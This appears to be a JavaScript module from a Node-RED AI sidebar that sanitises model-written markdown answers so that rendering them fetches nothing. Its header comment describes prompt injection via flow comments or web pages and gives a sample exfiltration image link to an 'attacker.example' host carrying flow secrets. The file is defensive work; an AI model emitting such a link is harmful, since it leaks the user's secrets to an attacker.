/**
 * The renderer of answer text: markdown (marked) sanitised by DOMPurify, then code blocks highlighted.
 *
 * An answer is written by a language model that may have read prompt-injected text (a flow's comment, a node's
 * help, a web page), so rendering it must not make the browser fetch anything: a fetched URL can carry what the
 * model saw (`![](https://attacker.example/?q=<flow secrets>)`). Only text-only elements are kept (no `img`,
 * `picture`, `video`, `audio`, `iframe`, `object`, `embed`, `link`, `style`, `svg`, `form`), only attributes that
 * load nothing (no `src`, `srcset`, `style`, `background`, `poster`), and links only to http(s) or mailto, opening
 * in a new tab without opener or referrer (a link anywhere else shows as its text). A markdown image becomes a
 * link reading "[image: alt]" that loads nothing until the user clicks it.
 *
 * Loaded in the editor as a plain script (registers `NodeRedAiSidebar.markdown`) and in Node.js by the package's
 * tests (`require`). The libraries and the labels are passed in; nothing here touches `RED` or jQuery.
 */
(function (root, factory) {
    "use strict";
    if (typeof module === "object" && module.exports) {
        module.exports = factory();
    } else {
        root.NodeRedAiSidebar = root.NodeRedAiSidebar || {};
        root.NodeRedAiSidebar.markdown = factory();
    }
}(typeof self !== "undefined" ? self : this, function () {
    "use strict";

    /** What marked produces for GitHub-flavoured markdown, and the inline HTML that loads nothing. */
    const ANSWER_TAGS = ["a", "abbr", "b", "blockquote", "br", "code", "dd", "del", "details", "div", "dl", "dt",
        "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "input", "ins", "kbd", "li", "mark", "ol", "p", "pre",
        "q", "s", "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot", "th",
        "thead", "tr", "u", "ul", "var"];

    /** Attributes that change no request: no `src`, `srcset`, `style`, `background`, `poster`, `action`. */
    const ANSWER_ATTRIBUTES = ["href", "title", "class", "align", "start", "reversed", "type", "checked", "disabled",
        "colspan", "rowspan", "open", "lang", "dir", "abbr"];

    /** The only link targets kept: the web and e-mail. Relative URLs would point into the editor's admin API. */
    const LINK_PATTERN = /^(?:https?:\/\/|mailto:)/i;

    /** marked sets `language-<name>` on fenced code; other classes could pick up the editor's styles. */
    const CLASS_PATTERN = /^language-[\w+#.-]+$/;

    const SANITIZE_CONFIG = {
        ALLOWED_TAGS: ANSWER_TAGS,
        ALLOWED_ATTR: ANSWER_ATTRIBUTES,
        ALLOWED_URI_REGEXP: LINK_PATTERN,
        ALLOW_DATA_ATTR: false,
        ALLOW_ARIA_ATTR: false
    };

    function escapeHtml(text) {
        return String(text).replace(/[&<>"']/g, function (c) {
            return { "&": "&amp;", "<": "&lt;", ">": "&gt;", "\"": "&quot;", "'": "&#39;" }[c];
        });
    }

    /**
     * The HTML that stands for a markdown image: a link with a label (nothing is fetched), or the label alone
     * when the image's URL is not http(s).
     *
     * @param {{href: string, text: string}} token marked's image token (`text` is the alt text)
     * @param {function(string): string} label the label for an alt text, e.g. "[image: chart]"
     * @returns {string}
     */
    function imageHtml(token, label) {
        const href = String(token.href || "").trim();
        const text = escapeHtml(label(String(token.text || "").trim()));
        if (!LINK_PATTERN.test(href) || /^mailto:/i.test(href)) {
            return text;
        }
        return "<a href=\"" + escapeHtml(href) + "\" title=\"" + escapeHtml(href) + "\">" + text + "</a>";
    }

    /**
     * A marked instance for answers: GitHub-flavoured markdown, images rendered by `imageHtml`.
     *
     * @param {object} marked the marked module (`Marked` constructor)
     * @param {function(string): string} imageLabel see `imageHtml`
     */
    function createMarked(marked, imageLabel) {
        const markdown = new marked.Marked({ gfm: true, breaks: false });
        markdown.use({
            renderer: {
                image: function (token) {
                    return imageHtml(token, imageLabel);
                }
            }
        });
        return markdown;
    }

    /**
     * A DOMPurify instance of its own for answers, so that its hooks never touch other sanitising (the editor's
     * node help, or the highlighter's span-only pass).
     *
     * @param {function} DOMPurify the DOMPurify module (a factory: `DOMPurify(window)` makes an instance)
     * @param {Window} window
     * @returns {{sanitize: function(string): DocumentFragment}}
     */
    function createSanitizer(DOMPurify, window) {
        const purify = DOMPurify(window);
        purify.addHook("uponSanitizeAttribute", function (node, data) {
            if (data.attrName === "class") {
                data.attrValue = data.attrValue.split(/\s+/).filter(function (name) {
                    return CLASS_PATTERN.test(name);
                }).join(" ");
                data.keepAttr = data.attrValue !== "";
            }
        });
        purify.addHook("afterSanitizeAttributes", function (node) {
            if (node.tagName === "A") {
                if (node.hasAttribute("href") && LINK_PATTERN.test(node.getAttribute("href").trim())) {
                    node.setAttribute("target", "_blank");
                    node.setAttribute("rel", "noopener noreferrer");
                } else {
                    node.removeAttribute("href");
                }
            } else if (node.tagName === "INPUT") {
                node.setAttribute("disabled", "");
            }
        });
        const config = Object.assign({ RETURN_DOM_FRAGMENT: true }, SANITIZE_CONFIG);
        return {
            /**
             * @param {string} html
             * @returns {DocumentFragment} the sanitised content, not yet in the page
             */
            sanitize: function (html) {
                const fragment = purify.sanitize(html, config);
                // Tidied once sanitising is over, so that nothing moved here escapes it (a hook that moved a
                // link's children would have them skipped): a link whose target was dropped becomes its text, and
                // an input other than a task-list check box goes.
                Array.prototype.forEach.call(fragment.querySelectorAll("a:not([href])"), function (link) {
                    while (link.firstChild) {
                        link.parentNode.insertBefore(link.firstChild, link);
                    }
                    link.parentNode.removeChild(link);
                });
                Array.prototype.forEach.call(fragment.querySelectorAll("input:not([type=checkbox])"), function (input) {
                    input.parentNode.removeChild(input);
                });
                return fragment;
            }
        };
    }

    /**
     * The renderer of answer text: `render(element, text)` puts the text into the element as sanitised markdown,
     * then highlights its code blocks.
     *
     * @param {object} options
     * @param {object} options.marked the marked module
     * @param {function} options.DOMPurify the DOMPurify module
     * @param {Window} options.window
     * @param {function(string): string} options.imageLabel the text shown for an image with that alt text
     * @param {object} [options.hljs] highlight.js; code blocks stay plain without it
     * @param {object} [options.codeHighlight] resources/shared/code-highlight.js
     * @returns {function(jQuery, string)}
     */
    function createRenderer(options) {
        const markdown = createMarked(options.marked, options.imageLabel);
        const answers = createSanitizer(options.DOMPurify, options.window);
        // highlight.js escapes the text it is given; its markup is still cut down to class-only spans, so that
        // nothing but highlighting can come out of it whatever a grammar does.
        const highlighter = options.DOMPurify(options.window);
        const highlightOnly = { ALLOWED_TAGS: ["span"], ALLOWED_ATTR: ["class"] };
        function sanitizeHighlight(html) {
            return highlighter.sanitize(html, highlightOnly);
        }
        return function (element, text) {
            element.empty().append(answers.sanitize(markdown.parse(text)));
            if (options.hljs && options.codeHighlight) {
                options.codeHighlight.highlightBlocks(element[0], options.hljs, sanitizeHighlight);
            }
        };
    }

    return {
        ANSWER_TAGS: ANSWER_TAGS,
        ANSWER_ATTRIBUTES: ANSWER_ATTRIBUTES,
        LINK_PATTERN: LINK_PATTERN,
        SANITIZE_CONFIG: SANITIZE_CONFIG,
        imageHtml: imageHtml,
        createMarked: createMarked,
        createSanitizer: createSanitizer,
        createRenderer: createRenderer
    };
}));
